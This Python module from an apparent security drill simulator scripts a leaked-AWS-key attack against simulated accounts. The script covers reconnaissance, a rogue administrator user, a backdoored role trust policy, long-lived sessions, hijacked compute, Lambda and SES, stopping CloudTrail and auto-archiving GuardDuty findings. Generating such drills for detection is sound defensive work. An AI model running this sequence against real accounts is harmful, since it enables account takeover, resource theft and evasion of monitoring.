"""The attack with a leaked key: looked around, made to last, moved from role to role, taken, hidden.

Every step is a real call to the simulated accounts; what the attacker needs to know it finds out first.
"""

import io
import json
import zipfile
from dataclasses import dataclass
from typing import Final

from sakimori.simulate.drill.hand import HOME, VIRGINIA, Hand
from sakimori.simulate.drill.loot import ADMINISTRATOR, MINUTE, Loot, is_for_ec2
from sakimori.simulate.drill.record import Attack, Held, Trick
from sakimori.simulate.state import DEFAULT_REGIONS

ALLOW_ALL: Final = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'
USERS: Final = ("aws-support-backup", "svc-monitoring", "cloud-audit-temp", "s3-replication")
_FUNCTIONS: Final = ("healthcheck", "metrics-forwarder", "img-resize-v2", "edge-cache-warmer")
_FILTERS: Final = ("noise", "known-scanner", "maintenance-window")
_OPEN_ROLES: Final = ("aws-service-support", "OrganizationHealthRole", "config-recorder-2")
_VALIDATOR: Final = "Boto3/1.28.62 md/Botocore#1.31.62 ua/2.0 os/linux#5.15 md/arch#x86_64 lang/python#3.10.12"
# Fourteen Regions by four operations: 56 calls without anything in the answer.
_EMPTY: Final = ("describe_applications", "describe_environments")
_EMPTY_REGIONS: Final = 14
_COMES_BACK: Final = 3.9 * 3600
"""So long after the beginning the sessions are renewed, which last an hour."""


@dataclass(slots=True, kw_only=True)
class Raid(Loot):
    """The attack with a leaked key, under way."""

    empty_calls: int = 0

    def run(self) -> Attack:
        """From the first try of the key to the last session; some four hours of the story."""
        began_at = self.clock()
        self.leaked.pause(8 * MINUTE)
        self._looks_around()
        user = self._stays()
        self._holds_on()
        last = self.moves(self.leaked)
        self._takes(user)
        self._blinds(user)
        self._plays_tricks(user)
        self.leaked.pause(max(60.0, _COMES_BACK - (self.clock() - began_at).total_seconds()))
        self.moves(self.leaked)
        last.pause(2 * MINUTE)
        return Attack(
            began_at=began_at,
            planted=tuple(self.planted),
            held=tuple(self.held),
            roles=tuple(dict.fromkeys(self.roles)),
            empty_calls=self.empty_calls,
        )

    # -- steps ------------------------------------------------------------------------------

    def _looks_around(self) -> None:
        key = self.leaked.credentials
        validator = self.leaked.other(key, address="192.0.2.5", agent=_VALIDATOR)
        who = validator.does("sts", "get_caller_identity")
        self.account, self.victim = who["Account"], who["Arn"].rpartition("/")[2]
        self.keep(Held(id=key.access_key_id, kind="user_key", account=self.account, arn=who["Arn"], issued_by="",
                       credentials=key, user=self.victim), self.leaked)  # fmt: skip
        self.leaked.pause(7 * MINUTE)
        self.leaked.does("sts", "get_caller_identity")
        for service, method in (
            ("iam", "list_users"), ("iam", "list_roles"), ("iam", "get_account_summary"), ("s3", "list_buckets"),
            ("ses", "get_send_quota"), ("iam", "get_account_authorization_details"), ("organizations", "describe_organization"),
        ):  # fmt: skip
            self.leaked.tries(service, method)
        for region in DEFAULT_REGIONS:
            self.leaked.tries("ec2", "describe_instances", region=region)
        for method in (*_EMPTY, *_EMPTY):
            for region in DEFAULT_REGIONS[:_EMPTY_REGIONS]:
                self.leaked.does("elasticbeanstalk", method, region=region)
                self.empty_calls += 1
        bucket = next((name for name in self.known_buckets(self.leaked) if "data" in name), "")
        if bucket:
            self.leaked.does("s3", "list_objects_v2", Bucket=bucket)
        self.leaked.pause(12 * MINUTE)

    def _stays(self) -> Hand:
        """A user of the attacker's own, and a role that lets the attacker's account in."""
        hand, name = self.leaked, f"{self.chance.choice(USERS)}-{self.chance.randrange(10, 99)}"
        arn = hand.does("iam", "create_user", UserName=name)["User"]["Arn"]
        self.note("AWS::IAM::User", name, arn, hand, "CreateUser")
        hand.does("iam", "attach_user_policy", UserName=name, PolicyArn=ADMINISTRATOR)
        user = self.new_key(hand, name, arn)
        hand.does("iam", "create_login_profile", UserName=name, Password=f"Rogue-{self.chance.getrandbits(60):x}!A")
        self.note("AWS::IAM::LoginProfile", name, arn, hand, "CreateLoginProfile")
        role = next((each for each in self.known_roles(hand) if is_for_ec2(each)), None)
        if role:
            trust = role["AssumeRolePolicyDocument"]
            statement = {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{self.outside}:root"}, "Action": "sts:AssumeRole"}  # fmt: skip
            document = json.dumps({**trust, "Statement": [*trust["Statement"], statement]})
            hand.does("iam", "update_assume_role_policy", RoleName=role["RoleName"], PolicyDocument=document)
            self.note("AWS::IAM::Role", role["RoleName"], role["Arn"], hand, "UpdateAssumeRolePolicy", is_created=False)
        return user

    def _holds_on(self) -> None:
        """Sessions that outlive the key."""
        given = self.leaked.does("sts", "get_session_token", DurationSeconds=43_200)
        self.keep_session(self.leaked, given, "session_token", self.held[0].arn, user=self.victim)
        given = self.leaked.does("sts", "get_federation_token", Name="deploy", Policy=ALLOW_ALL, DurationSeconds=43_200)
        self.keep_session(self.leaked, given, "federation", given["FederatedUser"]["Arn"], user=self.victim)
        self.leaked.pause(9 * MINUTE)

    def _takes(self, user: Hand) -> None:
        self.starts_machines(user, 3, 8)
        self._makes_function(user)
        address = f"no-reply-{self.chance.randrange(100, 999)}@mail.example"
        user.does("ses", "verify_email_identity", region=VIRGINIA, EmailAddress=address)
        self.note("AWS::SES::EmailIdentity", address, f"arn:aws:ses:{VIRGINIA}:{self.account}:identity/{address}", user,
                  "VerifyEmailIdentity")  # fmt: skip
        self.takes_disk(user)
        user.pause(15 * MINUTE)

    def _makes_function(self, user: Hand) -> None:
        name = f"{self.chance.choice(_FUNCTIONS)}-{self.chance.randrange(10, 99)}"
        role = next(each for each in self.known_roles(user) if "lambda.amazonaws.com" in json.dumps(each["AssumeRolePolicyDocument"]))  # fmt: skip
        made = user.does("lambda", "create_function", region=VIRGINIA, FunctionName=name, Runtime="python3.12",
                         Role=role["Arn"], Handler="index.handler", Code={"ZipFile": code()})  # fmt: skip
        arn = made["FunctionArn"]
        self.note("AWS::Lambda::Function", name, arn, user, "CreateFunction")
        user.does("lambda", "create_function_url_config", region=VIRGINIA, FunctionName=name, AuthType="NONE")
        self.note("AWS::Lambda::Url", arn, arn, user, "CreateFunctionUrlConfig")

    def _blinds(self, user: Hand) -> None:
        trails = user.does("cloudtrail", "describe_trails", region=VIRGINIA)["trailList"]
        for trail in trails:
            if trail["HomeRegion"] == VIRGINIA and not trail.get("IsMultiRegionTrail"):
                user.does("cloudtrail", "stop_logging", region=VIRGINIA, Name=trail["Name"])
                self.note("AWS::CloudTrail::Trail", trail["Name"], trail["TrailARN"], user, "StopLogging", is_created=False)  # fmt: skip
        for detector in user.does("guardduty", "list_detectors")["DetectorIds"]:
            name = f"{self.chance.choice(_FILTERS)}-{self.chance.randrange(10, 99)}"
            criteria = {"Criterion": {"severity": {"Gte": 1}}}
            user.does("guardduty", "create_filter", DetectorId=detector, Name=name, Action="ARCHIVE", FindingCriteria=criteria)  # fmt: skip
            arn = f"arn:aws:guardduty:{HOME}:{self.account}:detector/{detector}/filter/{name}"
            self.note("AWS::GuardDuty::Filter", name, arn, user, "CreateFilter", region=HOME)

    def _plays_tricks(self, user: Hand) -> None:
        if Trick.MFA in self.tricks:
            self._binds_mfa(user)
        if Trick.OPEN_ROLE in self.tricks:
            self._opens_role(user)

    def _binds_mfa(self, user: Hand) -> None:
        name = self.held_by(user).user
        made = user.does("iam", "create_virtual_mfa_device", VirtualMFADeviceName=f"{name}-phone")
        serial = made["VirtualMFADevice"]["SerialNumber"]
        self.note("AWS::IAM::VirtualMFADevice", serial, serial, user, "CreateVirtualMFADevice")
        user.does("iam", "enable_mfa_device", UserName=name, SerialNumber=serial, AuthenticationCode1="123456",
                  AuthenticationCode2="234567")  # fmt: skip
        given = user.does("sts", "get_session_token", SerialNumber=serial, TokenCode="345678", DurationSeconds=129_600)
        self.keep_session(user, given, "session_token", self.held_by(user).arn, user=name)

    def _opens_role(self, user: Hand) -> None:
        """Both roles are assumed from outside: the accounts' own events tell of it by the role alone."""
        name = self.chance.choice(_OPEN_ROLES)
        trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]}  # fmt: skip
        arn = user.does("iam", "create_role", RoleName=name, AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"]
        self.note("AWS::IAM::Role", name, arn, user, "CreateRole")
        user.does("iam", "attach_role_policy", RoleName=name, PolicyArn=ADMINISTRATOR)
        changed = [each.arn for each in self.planted if each.kind == "AWS::IAM::Role" and each.account == self.account]
        for role in dict.fromkeys([arn, *changed]):
            if self.own:
                self.assume(self.leaked.other(self.own), role, from_outside=True)


def code() -> bytes:
    """A function that does nothing, zipped."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("index.py", "def handler(event, context):\n    return {}\n")
    return packed.getvalue()
